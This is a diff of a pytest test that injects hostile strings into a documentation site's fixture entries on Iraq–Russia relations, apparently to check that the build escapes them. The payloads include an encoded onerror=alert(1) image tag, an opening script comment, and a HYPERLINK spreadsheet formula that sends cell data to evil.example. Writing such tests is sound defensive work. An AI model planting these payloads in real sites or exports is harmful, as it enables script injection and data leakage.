@@ -20,7 +20,7 @@ from pathlib import Path
 
 import pytest
 
-from tests.helpers import copy_project, mkdocs_build, subprocess_env, use_fixture_knowledge
+from tests.helpers import copy_project, mkdocs_build, replace_entry_line, subprocess_env, use_fixture_knowledge
 
 pytest_plugins = ["tests.browser_support"]
 
@@ -29,39 +29,33 @@ ENTITIES = "&lt;img src=x onerror=alert(1)&gt;"
 COMMENT = "<!--<script>"
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1, "Soviet arms embargo")'
 
-#: (file, the line as in tests/fixtures/knowledge or sources/catalog.yml, its hostile version)
+#: (kind, the line as in tests/fixtures/knowledge or sources/catalog/, its hostile version); a
+#: body line (summary, note text) is Markdown, not YAML: no quotes there.
 MUTATIONS = [
-    ("sources/events.yml", "    title: Russian military personnel at the siege of Baghdad",
-     f"    title: 'Russian personnel {TAG} at the siege'"),
-    ("sources/events.yml", "    title: Diplomatic relations established",
-     f"    title: '{ENTITIES} relations established'"),
-    ("sources/events.yml", "    title: Friendship treaty",
-     f"    title: 'Friendship {COMMENT} treaty'"),
-    ("sources/events.yml", "    summary: Russia helped the Persians besiege Baghdad.[[wikipedia-iraq-russia-relations/p3]]",
-     f"    summary: 'Russia helped {TAG} and {ENTITIES} and {COMMENT}.[[wikipedia-iraq-russia-relations/p3]]'"),
-    ("sources/events.yml", "        - label: Exports cut off in 1987", f"        - label: 'Exports {TAG} {COMMENT}'"),
-    ("sources/periods.yml", "    title: Early contacts", f"    title: 'Early {TAG} contacts'"),
+    ("events", "title: Russian military personnel at the siege of Baghdad",
+     f"title: 'Russian personnel {TAG} at the siege'"),
+    ("events", "title: Diplomatic relations established",
+     f"title: '{ENTITIES} relations established'"),
+    ("events", "title: Friendship treaty",
+     f"title: 'Friendship {COMMENT} treaty'"),
+    ("events", "Russia helped the Persians besiege Baghdad.[[wikipedia-iraq-russia-relations/p3]]",
+     f"Russia helped {TAG} and {ENTITIES} and {COMMENT}.[[wikipedia-iraq-russia-relations/p3]]"),
+    ("events", "    - label: Exports cut off in 1987", f"    - label: 'Exports {TAG} {COMMENT}'"),
+    ("periods", "title: Early contacts", f"title: 'Early {TAG} contacts'"),
     # A name or expansion that no text uses needs a note (the claims model): any existing one will do here.
-    ("sources/actors.yml", "    name: Soviet Union", f"    name: 'Soviet {COMMENT} Union'\n    name_note: il-38-first-flight"),
-    ("sources/glossary.yml", "    expansion: United Nations",
-     f"    expansion: 'United {TAG} Nations'\n    expansion_note: isis-expansion"),
-    ("sources/notes.yml", "    text: The Il-38 first flew in 1961, so it cannot have been among aircraft sent in 1958.",
-     f"    text: 'The Il-38 {TAG} first flew in 1961 {COMMENT}.'"),
-    ("sources/events.yml", "    title: Soviet arms embargo", f"    title: '{FORMULA}'"),
+    ("actors", "name: Soviet Union", f"name: 'Soviet {COMMENT} Union'\nname_note: il-38-first-flight"),
+    ("glossary", "expansion: United Nations",
+     f"expansion: 'United {TAG} Nations'\nexpansion_note: isis-expansion"),
+    ("notes", "The Il-38 first flew in 1961, so it cannot have been among aircraft sent in 1958.",
+     f"The Il-38 {TAG} first flew in 1961 {COMMENT}."),
+    ("events", "title: Soviet arms embargo", f"title: '{FORMULA}'"),
+    ("catalog", "title: Iraq–Russia relations", f"title: '{ENTITIES} {TAG}'"),
 ]
 
 
 def _mutate(root: Path) -> None:
-    for rel, old, new in MUTATIONS:
-        path = root / rel
-        text = path.read_text("utf-8")
-        assert text.count(old + "\n") == 1, f"{rel}: the fixture line {old!r} changed; update this test"
-        path.write_text(text.replace(old + "\n", new + "\n"), "utf-8")
-    catalog = root / "sources/catalog.yml"
-    text = catalog.read_text("utf-8")
-    first_title = re.search(r"^    title: .*$", text, re.MULTILINE)
-    catalog.write_text(text[:first_title.start()] + f"    title: '{ENTITIES} {TAG}'" + text[first_title.end():],
-                       "utf-8")
+    for kind, old, new in MUTATIONS:
+        replace_entry_line(root, kind, re.escape(old), new)
 
 
 @pytest.fixture(scope="module")
